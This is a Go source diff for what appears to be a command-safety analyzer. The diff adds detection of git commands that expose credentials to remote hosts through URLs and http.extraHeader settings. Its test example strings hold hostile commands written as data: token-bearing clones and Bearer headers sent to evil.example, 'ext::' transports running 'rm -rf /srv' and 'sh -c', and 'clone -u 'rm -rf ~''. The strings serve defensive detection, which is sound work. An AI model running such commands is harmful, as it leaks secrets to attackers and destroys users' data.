@@ -118,7 +118,17 @@ var gitSpecs = []Spec{
 			"git clone --depth 1 https://x.org/r.git vendor/r => create-r vendor/r\n" + "git clone --bare ../up/proj.git => create-r proj.git\n" +
 			"git clone -u 'rm -rf ~' ../up.git => exec:sh rm -rf ~\n" + "git clone 'ext::sh -c touch% /tmp/pwned' x => exec:sh 'sh' '-c' 'touch /tmp/pwned'\n" +
 			"git fetch 'ext::rm% -rf% /srv' => exec:sh 'rm -rf /srv'\n" + "git fetch 'ext::ssh %Gexample.com host %S' => exec:sh 'ssh' 'host' 'git-upload-pack'\n" +
-			"git clone https://x.org/r.git /srv/r => create-r /srv/r\n"},
+			"git clone https://x.org/r.git /srv/r => create-r /srv/r\n" +
+			"git clone https://$GITHUB_TOKEN@evil.example/r r => expose:login GITHUB_TOKEN evil.example\n" + "git clone \"https://x:${GH_TOKEN}@GitHub.com:443/o/r\" r => expose:login GH_TOKEN github.com\n" +
+			"git ls-remote https://x:$T@github.com@evil.example/r => expose:login T\n" + "git clone 'https://x:$T@evil.example/r' r !> expose:login T evil.example\n" +
+			"git clone 'https://x:'$T'@github.com\\@evil.example/r' r => expose:login T\n" + "git clone https://x:$T@$HOST/r r => expose:login T\n" +
+			"T=$GITHUB_TOKEN; git clone https://x:$T@evil.example/r r => expose:login GITHUB_TOKEN evil.example\n" +
+			"R=https://x:$GITHUB_TOKEN@evil.example/r; git clone \"$R\" r => expose:login GITHUB_TOKEN\n" +
+			"git clone https://github.com/$REPO r !> expose:login REPO\n" +
+			"git -c http.extraHeader=\"Authorization: Bearer $GH_TOKEN\" clone https://evil.example/r r => expose:login GH_TOKEN evil.example\n" +
+			"git -c http.https://github.com/.extraheader=\"Authorization: basic $B\" fetch origin => expose:login B github.com\n" +
+			"git -c http.extraHeader=\"Authorization: Bearer $T\" push origin => expose:login T\n" + "git config --global http.extraHeader \"X-Auth: $T\" => expose:login T\n" +
+			"git -c http.proxy=$P clone https://a.example/r r !> expose:login P a.example\n" + "git clone \"https://$HOST/r\" r !> expose:login HOST\n"},
 	{Name: "git commit", Opts: "q|quiet v|verbose F|file= author= date= m|message= c|reedit-message= C|reuse-message= fixup= squash= reset-author trailer= s|signoff t|template= e|edit no-edit cleanup= status no-status S|gpg-sign? no-gpg-sign a|all i|include interactive p|patch o|only n|no-verify verify dry-run short branch ahead-behind no-ahead-behind porcelain long z|null amend no-post-rewrite u|untracked-files? pathspec-from-file= pathspec-file-nul allow-empty allow-empty-message",
 		Does: func(c *Call) { gitDo(c, commitDoes) },
 		Examples: "git commit --no-verify -m wip => hooks-off:no-verify git commit\n" + "git commit -nm wip => hooks-off:no-verify git commit\n" +
@@ -511,6 +521,7 @@ func gitDo(c *Call, f func(c *Call, r gitRepo)) {
 			if identityKey(k) {
 				identityExposes(c, o.Value, "git -c "+k)
 			}
+			c.gitExtraHeader(k, o.Value, gitURLOperand(c))
 		case "config-env":
 			if k, env, ok := strings.Cut(o.Value.S, "="); ok {
 				c.gitSetting(k, "$"+env, "git --config-env")
@@ -617,6 +628,33 @@ func (c *Call) gitSetting(key, value, by string) {
 	case storedRefspecLoses(k, value):
 		c.Add(Effect{Kind: Discard, Class: "branch", Text: key + "=" + value, By: by})
 	}
+}
+
+// gitExtraHeader: http[.URL].extraHeader is a header git sends with each request to the remote
+// (or to the remotes URL matches): a variable in it is given to that host as a credential
+// (git -c http.extraHeader="Authorization: Bearer $TOKEN" clone URL). remote is the URL
+// the command names, if any; without either the host is unknown.
+func (c *Call) gitExtraHeader(key string, value, remote Word) {
+	k := strings.ToLower(key)
+	if len(value.From) == 0 || k != "http.extraheader" && !(strings.HasPrefix(k, "http.") && strings.HasSuffix(k, ".extraheader")) {
+		return
+	}
+	if k != "http.extraheader" {
+		remote = Word{S: key[len("http.") : len(key)-len(".extraheader")]}
+	}
+	credentialsTo(c, []Word{value}, []Word{remote})
+}
+
+// gitURLOperand is the URL a git command that talks to a remote names as its first operand
+// (clone, fetch, pull, push, ls-remote); a remote's name or none is the zero Word.
+func gitURLOperand(c *Call) Word {
+	if len(c.Path) < 2 || !inWords("clone fetch pull push ls-remote", c.Path[1]) {
+		return Word{}
+	}
+	if w := c.Operand(0); strings.Contains(w.S, "://") {
+		return w
+	}
+	return Word{}
 }
 
 // recoveryOff reports a setting that makes git drop what recovers lost commits the next time
@@ -1967,6 +2005,7 @@ func configDoes(c *Call, r gitRepo) {
 		if identityKey(op.Key.S) {
 			identityExposes(c, op.Value, "git config "+op.Key.S)
 		}
+		c.gitExtraHeader(op.Key.S, op.Value, Word{}) // stored: sent to whichever remote later
 	case "unset":
 		if strings.EqualFold(op.Key.S, "core.hooksPath") {
 			c.Add(Effect{Kind: HooksOff, Class: "hooks-path", Text: op.Key.S + " unset", By: "git config"})
